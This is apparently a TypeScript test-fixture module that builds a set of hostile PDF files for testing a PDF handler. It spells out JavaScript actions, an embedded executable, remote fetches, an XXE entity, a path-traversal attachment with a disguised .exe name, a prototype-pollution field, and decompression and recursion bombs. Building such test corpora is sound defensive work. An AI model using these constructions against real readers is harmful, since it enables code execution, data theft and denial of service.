import { deflateSync } from 'node:zlib'
import { makePdf as pdf, pdfStream as stream } from '../sample-pdf.ts'
import { escapeText, opens, PAGE, PAGES, withPage } from './documents-of-one-page.ts'
import { ascii, hostile } from './hostile-file.ts'
import type { HostileFile, Payload } from './hostile-file.ts'

/** Documents that act by ways that are less plain than a script, and such as never come to an end. */
export function moreDocuments({ script, address }: Payload): readonly HostileFile[] {
  const escaped = escapeText(script)
  const annotated = (annotation: string) => withPage(`/Annots [<< /Type /Annot /Rect [0 0 200 200] ${annotation} >>]`)
  let packed = Buffer.alloc(3_000_000)
  for (let round = 0; round < 4; round++) packed = deflateSync(packed)
  const documents: readonly (readonly [string, Buffer])[] = [
    [
      'named script',
      pdf(
        `<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (${escaped}) >>] >> >> >>`,
        PAGES,
        PAGE,
      ),
    ],
    [
      'closing script',
      pdf(`<< /Type /Catalog /Pages 2 0 R /AA << /WC << /S /JavaScript /JS (${escaped}) >> >> >>`, PAGES, PAGE),
    ],
    [
      'chain',
      opens(
        `<< /S /Named /N /Print /Next << /S /JavaScript /JS (${escaped}) /Next << /S /URI /URI (${address}/next) >> >> >>`,
      ),
    ],
    [
      'embedded program',
      pdf(
        '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << /F 4 0 R >> >>] >> >> >>',
        PAGES,
        PAGE,
        stream('/Type /EmbeddedFile', 'MZ'),
      ),
    ],
    ['go to embedded', opens(`<< /S /GoToE /F << /FS /URL /F (${address}/gotoe.pdf) >> /T << /R /C /N (x) >> >>`)],
    ['import data', opens(`<< /S /ImportData /F (${address}/data.fdf) >>`)],
    [
      'rendition',
      annotated(
        `/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${address}/film) >> >> >> /JS (${escaped}) >>`,
      ),
    ],
    ['film', annotated(`/Subtype /Movie /Movie << /F (${address}/movie.avi) /Poster true >> /A true`)],
    [
      'rich media',
      annotated(
        `/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(x.swf) << /F (${address}/x.swf) >>] >> >>`,
      ),
    ],
    ['body with script', annotated('/Subtype /3D /3DD << /Type /3D /Subtype /U3D /OnInstantiate 4 0 R >>')],
    ['attachment', annotated(`/Subtype /FileAttachment /FS << /F (../../etc/passwd) /UF (x\u202efdp.exe) >>`)],
    [
      'words of markup',
      annotated(
        `/Subtype /FreeText /RC (<body><script>${escaped}</script><img src="${address}/rc.png"/></body>) /Contents (<script>)`,
      ),
    ],
    [
      'fields',
      pdf(
        `<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /CO [4 0 R] >> >>`,
        PAGES,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (__proto__) /Rect [0 0 9 9] /V (x) /AA << /C << /S /JavaScript /JS (${escaped}) >> >> >>`,
      ),
    ],
    [
      'facts',
      pdf(
        '<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>',
        PAGES,
        PAGE,
        stream(
          '/Type /Metadata /Subtype /XML',
          `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}/xmp">]><x>&e;<script>${script}</script></x>`,
        ),
      ),
    ],
    [
      'of pages of another',
      withPage(
        `/Contents 4 0 R /Resources << /XObject << /X << /Type /XObject /Subtype /Form /Ref << /F (${address}/ref.pdf) /Page 0 >> >> >> >>`,
        stream('', '/X Do'),
      ),
    ],
    [
      'draws itself',
      withPage(
        '/Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >>',
        stream('', '/X Do'),
        stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>', '/X Do /X Do'),
      ),
    ],
    [
      'letter of itself',
      withPage(
        '/Contents 4 0 R /Resources << /Font << /F 5 0 R >> >>',
        stream('', 'BT /F 9 Tf (aaaa) Tj ET'),
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>',
        stream('', 'BT /F 9 Tf (aa) Tj ET'),
      ),
    ],
    [
      'tiles',
      withPage(
        '/Contents 4 0 R /Resources << /Pattern << /P 5 0 R >> >>',
        stream('', '/Pattern cs /P scn 0 0 200 200 re f'),
        stream(
          '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>',
          '0 0 1 1 re f',
        ),
      ),
    ],
    [
      'function',
      withPage(
        '/Contents 4 0 R /Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1e9 0 1e9] /Function 5 0 R >> >> >>',
        stream('', '/S sh'),
        stream('/FunctionType 4 /Domain [0 1e9 0 1e9] /Range [0 1 0 1 0 1]', `{ ${'dup mul '.repeat(20_000)} 0 0 }`),
      ),
    ],
    [
      'unfolds',
      withPage(
        '/Contents 4 0 R',
        stream('/Filter [/FlateDecode /FlateDecode /FlateDecode /FlateDecode]', packed.toString('latin1')),
      ),
    ],
    [
      'secret',
      ascii(
        pdf('<< /Type /Catalog /Pages 2 0 R >>', PAGES, PAGE)
          .toString('latin1')
          .replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 5 /R 6 /O (x) /U (x) /P -1 >>'),
      ),
    ],
    [
      'own table',
      ascii(
        '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 2000000000 /Prev 9 >>\nstartxref\n59\n%%EOF',
      ),
    ],
    [
      'kin',
      pdf(
        '<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>',
        PAGES,
        PAGE,
        '<< /First 4 0 R /Last 4 0 R /Next 4 0 R /Count 2000000000 /Title (<script>) >>',
      ),
    ],
    [
      'letters of code',
      withPage(
        '/Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 5 0 R >> >> >> >>',
        stream('', 'BT /F 12 Tf (a) Tj ET'),
        stream('', `\0\u0001\0\0\0\u0001${'\u00ff'.repeat(2_000)}`),
      ),
    ],
    [
      'picture of pictures',
      withPage(
        '/Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >>',
        stream('', '200 0 0 200 0 0 cm /I Do'),
        stream(
          '/Type /XObject /Subtype /Image /Width 99999 /Height 99999 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode',
          '\u0097JB2\r\n\u001a\n\u0001',
        ),
      ),
    ],
  ]
  return documents.map(([name, content]) => hostile(`paper ${name}.pdf`, content, 'anything', 'application/pdf'))
}
